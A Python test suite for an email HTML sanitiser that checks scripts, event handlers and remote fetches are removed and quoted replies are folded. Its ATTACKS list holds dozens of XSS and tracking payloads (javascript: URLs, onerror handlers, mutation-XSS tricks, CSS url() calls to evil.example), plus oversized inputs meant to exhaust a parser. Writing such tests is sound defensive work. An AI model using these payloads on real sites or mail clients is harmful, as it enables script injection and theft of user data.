"""HTML of mails is shown without anything that runs, asks or fetches, and with its quotes folded."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keepword.channels.email.parsing import sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img srcset='https://evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' ping='https://evil.example'>x</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><button formaction='javascript:alert(1)'>b</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-image:url(https://evil.example/x.png)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='color:re\\64;background:u\\72l(https://evil.example)'>x</div>",
    "<div style='background:/**/url(https://evil.example)'>x</div>",
    "<div style='list-style:url(https://evil.example)'>x</div>",
    "<div style='color:red;}</style><script>alert(1)</script>'>x</div>",
    "<table background='https://evil.example/x.png'><tr><td background='https://evil.example/y.png'>x</td></tr></table>",
    "<body onload=alert(1) background='https://evil.example/x.png'>x</body>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><x xmlns:h='h'><h:script>alert(1)</h:script>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src='cid:a'>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<div id=document class='x y'><a name=cookie id=body>x</a></div>",
    "<details class=quote><img src=x onerror=alert(1)></details>",
    "<div class='gmail_quote'><script>alert(1)</script></div><blockquote onclick=alert(1)>q</blockquote>a",
    '&quot;src="\ue000https://evil.example" onerror=alert(1)',
    "<img src=\"https://a.example/' onerror='alert(1)\">",
    '<img src="https://a.example/&quot; onerror=&quot;alert(1)">',
    "<a href='https://a.example' target=_self onclick=alert(1) style='position:fixed'>x</a>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<scr\x00ipt>alert(1)</script>",
]

REACHES = re.compile(r"(?:url|expression|image)\s*\(|(?:position|behavior|binding)\s*:|\\|@|/\*", re.I)
TAGS = {
    *("script", "style", "iframe", "object", "embed", "form", "input", "button", "select", "textarea"),
    *("svg", "math", "meta", "base", "link"),
}


class Page(HTMLParser):
    """Every element of the result, as (tag, attributes)."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Page(html).elements:
        assert tag not in TAGS
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in {
                "srcset",
                "action",
                "formaction",
                "background",
                "ping",
                "srcdoc",
                "name",
                "poster",
            }
            if name in {"href", "src"}:
                scheme = re.sub(r"[\x00-\x20]", "", value).partition(":")[0].lower()
                assert scheme in {"http", "https", "mailto", "tel"} or value.startswith(
                    ("data:image/", "/files/")
                )
                assert "svg" not in value
            if name == "style":
                assert not REACHES.search(value)
        if tag == "a":
            assert attributes.get("target") == "_blank"
            assert attributes.get("rel") == "noopener noreferrer nofollow"
        assert tag != "img" or "src" not in attributes or not attributes["src"].startswith("http")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "frame", ["{}", "<table><tr><td>{}", "<blockquote type=cite>{}</blockquote>x", "<p>{}<p>"]
)
def test_an_attack_leaves_nothing_that_runs_or_fetches(attack: str, frame: str) -> None:
    assert_harmless(sanitise(frame.format(attack), cid_urls={"a": "/files/a"}, allow_remote=False).html)


@given(
    st.lists(
        st.sampled_from([*ATTACKS, "<div>", "</div>", "<table>", "</td>", "<b>", "</p>", "'", '"', "<!--"]),
        max_size=6,
    )
)
def test_attacks_put_together_leave_nothing_either(attacks: list[str]) -> None:
    assert_harmless(sanitise("".join(attacks), cid_urls={}, allow_remote=False).html)


def test_remote_pictures_wait_until_asked_for() -> None:
    html = (
        '<img src="https://a.example/x.png?a=1&amp;b=2"><img src="//b.example/y.gif"><img src="relative.png">'
    )
    blocked = sanitise(html, cid_urls={}, allow_remote=False)
    assert blocked.blocked == 2
    assert [one.get("data-blocked-src") for _, one in Page(blocked.html).elements] == [
        "https://a.example/x.png?a=1&b=2",
        "https://b.example/y.gif",
        None,
    ]
    assert not any("src" in one for _, one in Page(blocked.html).elements)
    shown = sanitise(html, cid_urls={}, allow_remote=True)
    assert shown.blocked == 0
    assert [one.get("src") for _, one in Page(shown.html).elements] == [
        "https://a.example/x.png?a=1&b=2",
        "https://b.example/y.gif",
        None,
    ]


def test_pictures_of_the_mail_itself_are_shown() -> None:
    html = (
        '<img src="cid:a@x"><img src="CID:b%40x"><img src="cid:c"><img src="data:image/png;base64,iVBORw0K">'
    )
    safe = sanitise(html, cid_urls={"a@x": "/files/1", "b@x": "/files/2"}, allow_remote=False)
    assert [one.get("src") for _, one in Page(safe.html).elements] == [
        "/files/1",
        "/files/2",
        None,
        "data:image/png;base64,iVBORw0K",
    ]
    assert safe.blocked == 0


def test_the_look_of_a_mail_is_kept() -> None:
    html = (
        '<table width="600" cellpadding="0" bgcolor="#fff"><tr><td align="center" valign="top" colspan="2">'
        '<span style="color:#333;font-family:Arial, &quot;Helvetica Neue&quot;;padding:0 4px">a</span>'
        "</td></tr></table>"
        '<font color="red" size="2">b</font><h1 dir="rtl">c</h1><ol start="3"><li>d</li></ol><hr><pre>e</pre>'
    )
    elements = dict(Page(sanitise(html, cid_urls={}, allow_remote=False).html).elements)
    assert elements["table"] == {"width": "600", "cellpadding": "0", "bgcolor": "#fff"}
    assert elements["td"] == {"align": "center", "valign": "top", "colspan": "2"}
    assert elements["span"]["style"] == 'color:#333;font-family:Arial, "Helvetica Neue";padding:0 4px'
    assert elements["font"] == {"color": "red", "size": "2"}
    assert elements["ol"] == {"start": "3"}
    assert {"h1", "li", "hr", "pre"} <= elements.keys()


@pytest.mark.parametrize(
    "quote",
    [
        '<blockquote type="cite">old words</blockquote>',
        '<div class="gmail_quote">Shop wrote:<blockquote class="gmail_quote">old words</blockquote></div>',
        '<div class="gmail_quote">---------- Forwarded message ---------<br>old words</div>',
        '<div id="appendonsend"></div><hr><div id="divRplyFwdMsg">From: Shop</div><div>old words</div>',
        '<div><div style="border:none;border-top:solid #E1E1E1 1.0pt">From:</div></div><p>old words</p>',
        '<blockquote style="border-left:1px solid #0857A6"><div>old words</div></blockquote>',
        '<hr id="zwchr"><b>From: </b>Shop<br>old words',
    ],
)
def test_a_quote_is_folded_and_the_new_words_are_not(quote: str) -> None:
    html = sanitise(f"<div><p>new words</p>{quote}</div>", cid_urls={}, allow_remote=False).html
    before, opening, _ = html.partition('<details class="quote"><summary>…</summary>')
    assert opening
    assert "new words" in before
    assert "old words" not in before
    folded = re.findall(r"<details.*?</details>", html, re.S)
    assert "old words" in "".join(folded)
    assert html.count("<details") == html.count("</details>")


def test_answers_between_quotes_stay_open() -> None:
    html = sanitise(
        '<div class="gmail_quote"><div class="gmail_attr">On Monday</div><blockquote>first?'
        "</blockquote>"
        '<div>yes</div><blockquote class="gmail_quote">second?</blockquote><div>no</div></div>',
        cid_urls={},
        allow_remote=False,
    ).html
    open_words = Page(re.sub(r"<details.*?</details>", "", html, flags=re.S)).words
    assert open_words == "On Mondayyesno"


@pytest.mark.parametrize(
    "html",
    [
        '<div class="gmail_quote">all of it is forwarded</div>',
        "<blockquote type=cite>only a quote</blockquote>",
        "<p>no quote</p>",
        '<blockquote style="margin:0 0 0 40px;border:none">indented</blockquote><p>a</p>',
        "<p>a</p><blockquote type=cite> </blockquote>",
        "",
    ],
)
def test_nothing_is_folded_where_nothing_would_be_gained(html: str) -> None:
    assert "<details" not in sanitise(html, cid_urls={}, allow_remote=False).html


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 50_000 + "deep",
        "".join(f"<b a={number}>" for number in range(900)) + "<p>x" * 50_000,
        "&" * 500_000,
        "<" * 500_000,
        "<a href='" + "x" * 1_000_000,
        "<blockquote>" * 900 + "a" * 1000,
        "<p style='" + "a:b;" * 100_000 + "'>x",
    ],
)
def test_html_of_a_hostile_shape_takes_bounded_time(html: str) -> None:
    assert_harmless(sanitise(html, cid_urls={}, allow_remote=False).html)
